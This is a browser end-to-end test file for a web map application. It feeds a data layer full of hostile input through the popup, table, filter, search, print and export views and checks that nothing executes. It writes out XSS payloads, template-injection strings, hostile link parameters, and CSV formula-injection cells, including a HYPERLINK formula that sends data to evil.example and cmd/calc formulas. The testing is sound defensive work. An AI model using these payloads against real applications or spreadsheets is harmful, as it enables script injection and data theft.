/**
 * Hostile data, in Chromium: a layer whose file name, property keys and values carry
 * markup, script, template syntax, formula prefixes, control and bidi characters, lone
 * surrogates and a 200,000-character string is imported through the data panel and
 * shown in the popup, the table, the legend, the filter editor, search and the import
 * summary, then exported; hostile link parameters are opened too. Every payload would
 * push to `window.__pwned` if it ever ran, and the DOM (shadow roots included) is
 * searched for anything it could have injected.
 */
import { readFileSync } from 'node:fs';
import type { Feature, FeatureCollection } from 'geojson';
import Papa from 'papaparse';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { decodeUrlState } from '../../src/app/url-state.ts';
import { valueText } from '../../src/geo/value-text.ts';
import { importThroughPanel, launchBrowser, showTab, waitForMapReady, watchPage, type PageLog } from './browser.ts';

const baseUrl = inject('baseUrl');
let browser: Browser;
let context: BrowserContext;

// Each payload reports to the top window, so one that runs inside an injected iframe or
// SVG document is caught as well.
const PWN = (tag: string) => `top.__pwned.push('${tag}')`;
const P = {
  img: `<img src=x onerror="${PWN('img')}">`,
  script: `<script>${PWN('script')}</script>`,
  svg: `<svg onload="${PWN('svg')}"><circle r="5"/></svg>`,
  js: `javascript:${PWN('js')}`,
  iframe: `"><iframe srcdoc="<script>${PWN('iframe')}</script>"></iframe>`,
  mustache: `{{constructor.constructor('${PWN('mustache')}')()}}`,
  template: '${' + PWN('template') + '}',
  style: `</style><style>/*PWNSTYLE*/*{display:none!important}</style><img src=x onerror=${PWN('style')}>`,
  long: `<img src=x onerror=${PWN('long')}>${'長'.repeat(1000)}${'x'.repeat(199_000)}`,
  control: `ctl[${Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('')}\u007f]end`,
  bidi: 'abc\u202edcba\u2066isolate\u2069 \u202a\u202b\u202c',
  surrogates: 'lone\ud800high\udc00low\udbff',
  zeroWidth: 'zero\u200b\u200c\u200d\u2060\ufeffwidth',
  emoji: '🗺️👨‍👩‍👧‍👦🇨🇳🏳️‍🌈',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  plus: '+cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  negative: '-12.5',
  quotes: `"';,\n"double""`,
} as const;

// Under the 120 characters a layer name keeps, with a long run that has no break.
const FILE_NAME = `<img src=x onerror=${PWN('fname')}>\u202e"';{{7*7}}${'x'.repeat(50)}.geojson`;
// A key that would end the filter in a link and start another parameter if it were
// written there raw.
const NUM_KEY = `<img src=x onerror=${PWN('numkey')}>&tab=analysis#x`;
const LONG_KEY = `<script>${PWN('longkey')}</script>${'k'.repeat(300)}`;

/** Properties built with CreateDataProperty, so `__proto__` is a key, not the prototype. */
const props = (entries: [string, unknown][]): Record<string, unknown> => Object.fromEntries(entries);

/** Five points at `at`, positions on screen far enough apart to click one at a time. */
function hostileCollection(at: readonly [number, number][]): FeatureCollection {
  const point = (i: number, properties: Record<string, unknown>): Feature => ({ type: 'Feature', properties, geometry: { type: 'Point', coordinates: [...at[i]!] } });
  return {
    type: 'FeatureCollection',
    features: [
      point(0, props([
        ['id', 'h1'],
        ['name', `${P.img} 测点`],
        ['__proto__', P.script],
        ['constructor', P.svg],
        ['toString', P.js],
        [P.img, P.iframe],
        [P.svg, P.mustache],
        [LONG_KEY, P.template],
        [NUM_KEY, 1.5],
        ['style', P.style],
        ['control', P.control],
        ['bidi', P.bidi],
        ['surrogates', P.surrogates],
        ['zero', P.zeroWidth],
        ['emoji', P.emoji],
        ['formula', P.formula],
        ['plus', P.plus],
        ['minus', P.minus],
        ['at', P.at],
        ['tab', P.tab],
        ['cr', P.cr],
        ['negative', P.negative],
        ['quotes', P.quotes],
        [P.control, 'control-key'],
      ])),
      // Lacks the keys named like Object.prototype members: nothing may be read through
      // the prototype in their place.
      point(1, props([['id', 'h2'], ['name', P.script], ['long', P.long], [NUM_KEY, 7]])),
      point(2, props([['id', `"><b id=pwn>${P.img}`], ['name', P.svg], ['__proto__', { nested: P.img }], [NUM_KEY, -3]])),
      point(3, props([['id', 'h4'], ['name', P.mustache], ['formula', '=1+1'], ['negative', -12.5]])),
      point(4, props([['id', 'h5'], ['name', P.template + P.bidi + P.surrogates], ['emoji', P.emoji]])),
    ],
  };
}

type Zs = { __pwned: string[] };

beforeAll(async () => {
  browser = await launchBrowser();
  // One context for every page: the imported layer lives on in its IndexedDB, so the
  // hostile links later open with it restored.
  context = await browser.newContext({ viewport: { width: 1366, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
  await context.addInitScript(() => {
    const w = window as unknown as { __pwned: string[] };
    w.__pwned = [];
    for (const name of ['alert', 'confirm', 'prompt'] as const) {
      (window as unknown as Record<string, unknown>)[name] = () => w.__pwned.push(name);
    }
  });
});
afterAll(async () => {
  await browser?.close();
});

async function open(path = ''): Promise<{ page: Page; log: PageLog }> {
  const page = await context.newPage();
  const log = watchPage(page);
  await page.goto(`${baseUrl}${path}`);
  await waitForMapReady(page);
  return { page, log };
}

/**
 * Anything a payload could have put in the document, searched through every shadow
 * root: script other than the app's own bundle, frames, plugins, `<base>`, an `img`
 * with `src=x`, any `on*` attribute, script URLs, a style payload.
 */
function injected(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const visit = (root: Document | ShadowRoot): void => {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.localName;
        if (['iframe', 'frame', 'frameset', 'object', 'embed', 'base', 'portal'].includes(tag)) found.push(tag);
        if (tag === 'script') {
          const s = el as HTMLScriptElement;
          const ours = s.type === 'module' && s.src !== '' && new URL(s.src).origin === location.origin && s.textContent === '';
          if (!ours) found.push(`script ${s.outerHTML.slice(0, 80)}`);
        }
        if (tag === 'img' && el.getAttribute('src') === 'x') found.push('img[src=x]');
        if (tag === 'style' && el.textContent?.includes('PWNSTYLE')) found.push('style payload');
        if (tag === 'b' && el.id === 'pwn') found.push('b#pwn');
        for (const a of el.attributes) {
          if (/^on/i.test(a.name)) found.push(`${tag}[${a.name}]`);
          if (/^(href|src|srcdoc|action|formaction|xlink:href|data)$/i.test(a.name) && /pwned|^\s*javascript:/i.test(a.value)) found.push(`${tag}[${a.name}=${a.value.slice(0, 40)}]`);
        }
        if (el.shadowRoot) visit(el.shadowRoot);
      }
    };
    visit(document);
    return found;
  });
}

async function expectClean(page: Page, log: PageLog, where: string): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as Zs).__pwned), `${where}: payloads ran`).toEqual([]);
  expect(await injected(page), `${where}: injected elements`).toEqual([]);
  expect(log.errors.filter((e) => !/Failed to load resource/.test(e)), `${where}: errors`).toEqual([]);
  // Still answering: a payload that hung the page or a layout that never finished would not.
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
}

/**
 * Lone surrogates do not survive the trip between the page and the test (the protocol is
 * UTF-8), so exact comparisons run in the page against the store's own data, and the
 * store's data is compared with the file through JSON, which escapes them.
 */
const storedJson = (page: Page, layerId: string) =>
  page.evaluate((id) => JSON.stringify(window.__zs!.store.state.data[id]!.features.map((f) => f.properties)), layerId);

let source: FeatureCollection;
let layerId: string;

async function importHostile(page: Page): Promise<void> {
  const at = await page.evaluate(() => {
    const map = window.__zs!.map;
    const { width, height } = map.getContainer().getBoundingClientRect();
    return [0, 1, 2, 3, 4].map((i) => map.unproject([width / 2 + (i - 2) * 90, height / 2 + (i % 2) * 60]).toArray());
  });
  source = hostileCollection(at);
  const bytes = Buffer.from(JSON.stringify(source));
  await importThroughPanel(page, FILE_NAME, bytes);
  await expect.poll(() => page.evaluate(() => window.__zs!.store.state.catalogue!.layers.find((l) => l.group === 'user')?.id ?? null), { timeout: 20_000 }).not.toBeNull();
  layerId = (await page.evaluate(() => window.__zs!.store.state.catalogue!.layers.find((l) => l.group === 'user')!.id))!;
  expect(layerId).toMatch(/^user-[a-z0-9-]+$/);
}

/** The later tests reuse the layer the import test kept in IndexedDB; run alone, they import it. */
async function ensureImported(): Promise<void> {
  if (layerId) return;
  const { page } = await open();
  await importHostile(page);
  await page.close();
}

describe('hostile data is shown as text', () => {
  it('has traps that catch a payload that runs and what it injects, inside shadow roots too', async () => {
    // Were the app to parse data as HTML anywhere, this is what the checks below would see.
    const page = await context.newPage();
    await page.setContent('<div id="host"></div>');
    await page.evaluate((markup) => {
      const outer = document.getElementById('host')!.attachShadow({ mode: 'open' });
      const inner = document.createElement('div');
      outer.append(inner);
      inner.attachShadow({ mode: 'open' }).innerHTML = markup;
    }, [P.img, P.svg, P.iframe, `<b id="pwn"></b>`].join(''));
    // (`<svg onload>` runs only when the page's own parser meets it; its element is still found.)
    await expect.poll(() => page.evaluate(() => [...(window as unknown as Zs).__pwned].sort())).toEqual(['iframe', 'img']);
    expect(await injected(page)).toEqual(expect.arrayContaining(['img[src=x]', 'img[onerror]', 'svg[onload]', 'iframe', 'b#pwn']));
    await page.close();
  });

  it('imports a hostile file and shows it as text in the summary, legend, popup, table, filters and search', async () => {
    const { page, log } = await open();
    await importHostile(page);
    expect(await storedJson(page, layerId)).toBe(JSON.stringify(source.features.map((f) => f.properties)));

    // The import summary and the legend name the file as it is.
    await showTab(page, 'data');
    const status = page.locator('zs-data-io-panel #import-status [role=status]');
    await expect.poll(() => status.textContent(), { timeout: 20_000 }).toContain(FILE_NAME);
    await expectClean(page, log, 'import summary');
    await showTab(page, 'layers');
    const row = page.locator(`li[data-layer="${layerId}"]`);
    expect(await row.locator('label > span').first().textContent()).toBe(FILE_NAME);
    expect(await row.locator('.state').getAttribute('data-count')).toBe('5');
    // The long name wraps inside the panel instead of pushing the count out of sight.
    expect(await row.evaluate((li) => li.scrollWidth <= li.clientWidth)).toBe(true);
    await expectClean(page, log, 'import');

    // Popup, opened by clicking the point on the map with only this layer showing.
    await page.evaluate((id) => window.__zs!.store.setVisibleLayers([id]), layerId);
    const clickFeature = async (index: number): Promise<void> => {
      // The open popup would take the click.
      await page.evaluate(() => window.__zs!.store.select(null));
      const [lon, lat] = (source.features[index]!.geometry as GeoJSON.Point).coordinates as [number, number];
      await expect.poll(() => page.evaluate(([x, y, id]) => {
        const map = window.__zs!.map;
        const p = map.project([x, y]);
        return map.queryRenderedFeatures([[p.x - 3, p.y - 3], [p.x + 3, p.y + 3]]).some((f) => f.source === `layer-${id}`);
      }, [lon, lat, layerId] as const), { timeout: 20_000 }).toBe(true);
      const xy = await page.evaluate(([x, y]) => {
        const map = window.__zs!.map;
        const p = map.project([x, y]);
        const r = map.getContainer().getBoundingClientRect();
        return [r.left + p.x, r.top + p.y];
      }, [lon, lat] as const);
      await page.mouse.click(xy[0]!, xy[1]!);
      const id = String(source.features[index]!.properties!.id);
      await expect.poll(() => page.evaluate(() => window.__zs!.store.state.selection?.featureId ?? null)).toBe(id);
      await page.locator('zs-feature-popup h2').waitFor();
    };
    /** Rows of the open popup whose text is not exactly the stored value, read in the page. */
    const popupMismatches = (index: number) =>
      page.evaluate(([id, i]) => {
        const f = window.__zs!.store.state.data[id]!.features[i]!;
        const p = f.properties!;
        const popup = document.querySelector('zs-feature-popup')!.shadowRoot!;
        const rows = new Map([...popup.querySelectorAll('tr')].map((tr) => [tr.querySelector('th')!.textContent, tr.querySelector('td')!.textContent]));
        const bad: string[] = [];
        if (popup.querySelector('h2')!.textContent !== p.name) bad.push('title');
        for (const k of Object.keys(p)) {
          if (k === 'name' || typeof p[k] !== 'string') continue;
          if (rows.get(k) !== p[k]) bad.push(JSON.stringify(k));
        }
        // A key the feature does not have must not be shown with something inherited.
        for (const [k, v] of rows) {
          if (!Object.hasOwn(p, k) && !['面积', '长度'].some((m) => k.startsWith(m))) bad.push(`extra ${JSON.stringify(k)}: ${JSON.stringify(v?.slice(0, 40))}`);
        }
        return bad;
      }, [layerId, index] as const);
    await clickFeature(0);
    expect(await popupMismatches(0)).toEqual([]);
    expect(await page.locator('zs-feature-popup h2').textContent()).toContain('<img src=x onerror=');
    // The popup stays on the map however long its values.
    const inView = () => page.evaluate(() => {
      const box = document.querySelector('.maplibregl-popup-content')!.getBoundingClientRect();
      const map = document.getElementById('map')!.getBoundingClientRect();
      return box.top >= map.top && box.bottom <= map.bottom && box.width <= 341;
    });
    expect(await inView()).toBe(true);
    await expectClean(page, log, 'popup of the feature with every payload');
    await clickFeature(1);
    expect(await popupMismatches(1)).toEqual([]);
    expect(await inView()).toBe(true);
    await clickFeature(2);
    expect(await popupMismatches(2)).toEqual([]);
    await expectClean(page, log, 'popups');

    // The attribute table, with a column per hostile key.
    await row.locator('button[data-action=table]').click();
    const table = page.locator('zs-attribute-table');
    await expect.poll(() => table.locator('[role=gridcell]').count(), { timeout: 20_000 }).toBeGreaterThan(10);
    const tableMismatches = await page.evaluate((id) => {
      const features = window.__zs!.store.state.data[id]!.features;
      const root = document.querySelector('zs-attribute-table')!.shadowRoot!;
      const cols = new Map([...root.querySelectorAll('[role=columnheader][data-field]')].map((h) => [h.getAttribute('data-field'), h.getAttribute('aria-colindex')]));
      const bad: string[] = [];
      features.forEach((f, i) => {
        const r = root.querySelector(`lit-virtualizer [role=row][data-index="${i}"]`);
        if (!r) return void bad.push(`row ${i} missing`);
        for (const [field, col] of cols) {
          const text = r.querySelector(`[aria-colindex="${col}"]`)!.textContent;
          const v: unknown = Object.hasOwn(f.properties!, field!) ? f.properties![field!] : undefined;
          const want = typeof v === 'string' && v !== '' ? v : v === undefined ? '—' : null;
          if (want !== null && text !== want) bad.push(`${i} ${JSON.stringify(field)}: ${JSON.stringify(text?.slice(0, 40))}`);
        }
        if (!cols.has(Object.keys(f.properties!)[1]!)) bad.push(`no column for ${Object.keys(f.properties!)[1]}`);
      });
      return bad;
    }, layerId);
    expect(tableMismatches).toEqual([]);
    const cells = await table.locator('[role=gridcell]').allTextContents();
    expect(cells.some((c) => c.includes('<iframe srcdoc='))).toBe(true);
    expect(await table.locator(`[role=columnheader][data-field="${'__proto__'}"]`).count()).toBe(1);
    // Long values stay in their cell: the row keeps its height.
    const rowBox = await table.locator('lit-virtualizer [role=row][data-index="1"]').boundingBox();
    expect(rowBox!.height).toBeLessThan(60);
    // Sorting by a hostile column reads only the features' own values.
    await table.locator('[role=columnheader][data-field=constructor] button').click();
    await expect.poll(() => table.locator('lit-virtualizer [role=row][data-index="0"]').getAttribute('data-id')).toBe('h1');
    await expectClean(page, log, 'table');

    // The filter editor lists the numeric field under its hostile name; filtering by it
    // works and the link it writes carries no parameter smuggled in by the name.
    await row.locator('button[data-action=filter]').click();
    const editor = row.locator('zs-filter-editor');
    // The editor's code loads with the first filter opened.
    await editor.locator('legend').first().waitFor();
    expect(await editor.locator('legend').allTextContents()).toContain(NUM_KEY);
    const lo = editor.locator('input[data-bound=lo]').first();
    await lo.fill('0');
    await lo.press('Enter');
    await expect.poll(() => row.locator('.state').getAttribute('data-shown')).toBe('2');
    await expect.poll(() => page.evaluate(() => location.hash)).toContain('layers=');
    const link = decodeUrlState(await page.evaluate(() => location.hash));
    expect(link.tab).toBeUndefined();
    await editor.locator('button').last().click();
    await expect.poll(() => row.locator('.state').getAttribute('data-shown')).toBe('5');
    await expectClean(page, log, 'filter editor');

    // Search by part of a hostile name; the results show it as text and picking one opens it.
    const search = page.locator('zs-search-box input');
    await search.fill('onerror=');
    const options = page.locator('zs-search-box [role=option]');
    await expect.poll(() => options.count(), { timeout: 10_000 }).toBeGreaterThan(0);
    const names = await options.locator('.name').allTextContents();
    expect(names).toContain(`${P.img} 测点`);
    await search.fill('{{constructor');
    await expect.poll(() => options.locator('.name').allTextContents()).toContain(P.mustache);
    await options.first().click();
    await expect.poll(() => page.evaluate(() => window.__zs!.store.state.selection?.featureId ?? null)).toBe('h4');
    expect(await popupMismatches(3)).toEqual([]);
    await expectClean(page, log, 'search');

    // The print layout's legend names the visible layer: the hostile one alone.
    await page.locator('#print-open').click();
    const print = page.locator('zs-print-layout');
    await expect.poll(() => print.locator('.legend').textContent(), { timeout: 20_000 }).toContain(FILE_NAME);
    await expect.poll(() => print.locator('img').count(), { timeout: 30_000 }).toBeGreaterThan(0);
    await expectClean(page, log, 'print layout');
    await page.keyboard.press('Escape');
    await expect.poll(() => print.evaluate((el) => (el as HTMLElement).hidden)).toBe(true);

    // Other views of the same state.
    await page.evaluate(() => window.__zs!.store.setTab('dashboard'));
    await page.evaluate(() => window.__zs!.store.setTab('analysis'));
    await page.evaluate(() => window.__zs!.store.setTab('layers'));
    await expectClean(page, log, 'tabs');
    await page.close();
  });

  it('exports the exact strings in GeoJSON and guarded, quoted cells in CSV', async () => {
    await ensureImported();
    const { page, log } = await open();
    // The layer comes back from IndexedDB, stored by the first test.
    await expect.poll(() => page.evaluate((id) => window.__zs!.store.state.layers[id]?.status ?? null, layerId), { timeout: 20_000 }).toBe('ready');
    expect(await storedJson(page, layerId)).toBe(JSON.stringify(source.features.map((f) => f.properties)));
    await showTab(page, 'data');
    const panel = page.locator('zs-data-io-panel');
    const download = async (format: string): Promise<Buffer> => {
      await panel.locator('#export-layer').selectOption(layerId);
      await panel.locator('#export-format').selectOption(format);
      if (format === 'csv') await panel.locator('#export-crs').selectOption('EPSG:4326');
      const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 30_000 }), panel.locator('#export-run').click()]);
      expect(dl.suggestedFilename()).toMatch(new RegExp(`^${layerId}_[\\w.-]+$`));
      return readFileSync((await dl.path()));
    };

    const gj = JSON.parse((await download('geojson')).toString('utf8')) as FeatureCollection;
    expect(gj.features).toHaveLength(source.features.length);
    gj.features.forEach((f, i) => {
      // JSON escapes lone surrogates, so the comparison is exact to the code unit.
      expect(JSON.stringify(f.properties), `feature ${i}`).toBe(JSON.stringify(source.features[i]!.properties));
      expect(Object.getPrototypeOf(f.properties)).toBe(Object.prototype);
    });

    const bytes = await download('csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const parsed = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    // What a spreadsheet must show: the text itself, a formula prefix neutralised with a
    // leading quote (numbers, also as text, left alone); UTF-8 cannot carry a lone
    // surrogate, so it arrives as U+FFFD.
    const shown = (v: unknown): string => {
      if (v === undefined || v === null) return '';
      if (typeof v !== 'string') return valueText(v);
      const w = v.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
      return /^[=+\-@\t\r]/.test(w) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(w) ? `'${w}` : w;
    };
    const keys = [...new Set(source.features.flatMap((f) => Object.keys(f.properties!)))];
    expect(header).toEqual([...keys.map(shown), 'x', 'y']);
    expect(rows).toHaveLength(source.features.length);
    rows.forEach((r, i) => {
      const p = source.features[i]!.properties!;
      const want = keys.map((k) => shown(Object.hasOwn(p, k) ? p[k] : undefined));
      expect(r.slice(0, keys.length), `row ${i}`).toEqual(want);
    });
    const row0 = rows[0]!;
    expect(row0[keys.indexOf('formula')]).toBe(`'${P.formula}`);
    expect(row0[keys.indexOf('negative')]).toBe('-12.5');
    expect(rows[3]![keys.indexOf('negative')]).toBe('-12.5');
    expect(row0[keys.indexOf('tab')]).toBe(`'${P.tab}`);
    // A cell holding control characters, quotes or line breaks is quoted whole.
    expect(text).toContain(`"${P.control}"`);
    expect(text).toContain(`"'${P.formula.replaceAll('"', '""')}"`);
    await expectClean(page, log, 'exports');
    await page.close();
  });

  it('opens hostile links with the defaults and nothing injected', async () => {
    await ensureImported();
    const img = encodeURIComponent(`<img src=x onerror=${PWN('url')}>`);
    const script = encodeURIComponent(`<script>${PWN('url')}</script>`);
    const svg = encodeURIComponent(`<svg onload=${PWN('url')}>`);
    const links = [
      `?view=${svg}#layers=${img},${layerId}&sel=${script}~${img}&table=${script}&f=${img}~name~values~s.${img}&tab=${svg}&base=javascript:${PWN('base')}&map=${img}/1/2`,
      `?embed=${script}&view=public%3Cimg%20src=x%3E#map=1e999/NaN/-Infinity&layers=__proto__,constructor&sel=${layerId}~${img}|${'%F0%9F'.repeat(50)}&table=${layerId}${img}`,
      `?view=public#sel=${layerId}~h1&f=${layerId}~__proto__~range~..&tab=constructor&table=${'a'.repeat(70)}`,
      // Ids that are also names of Object members once broke the start-up.
      `#f=constructor~a~range~1..;${layerId}~constructor~values~s.x&sel=constructor~x&layers=constructor,${layerId}`,
      `?view=<script>${PWN('raw')}</script>#layers=<img src=x onerror=${PWN('raw')}>&table=</script><script>${PWN('raw')}</script>&x=${'%'.repeat(20_000)}`,
    ];
    for (const link of links) {
      const { page, log } = await open(link);
      const s = await page.evaluate(() => {
        const st = window.__zs!.store.state;
        return { mode: st.mode, tab: st.tab, table: st.table, selection: st.selection, loaded: Object.values(st.layers).filter((l) => l.status === 'ready').length };
      });
      expect(['staff', 'public']).toContain(s.mode);
      expect(s.tab).toBe('layers');
      expect(s.table === null || s.table === layerId).toBe(true);
      expect(s.selection).toBeNull();
      expect(s.loaded).toBeGreaterThan(0);
      // The hash is rewritten by the app, and a tampered one set later is also ignored.
      await page.evaluate((h) => {
        location.hash = h;
      }, `layers=${img}&table=${script}&sel=${script}~x&tab=${svg}`);
      await expect.poll(() => page.evaluate(() => window.__zs!.store.state.table)).toBeNull();
      await expectClean(page, log, link.slice(0, 60));
      await page.close();
    }
  });
});
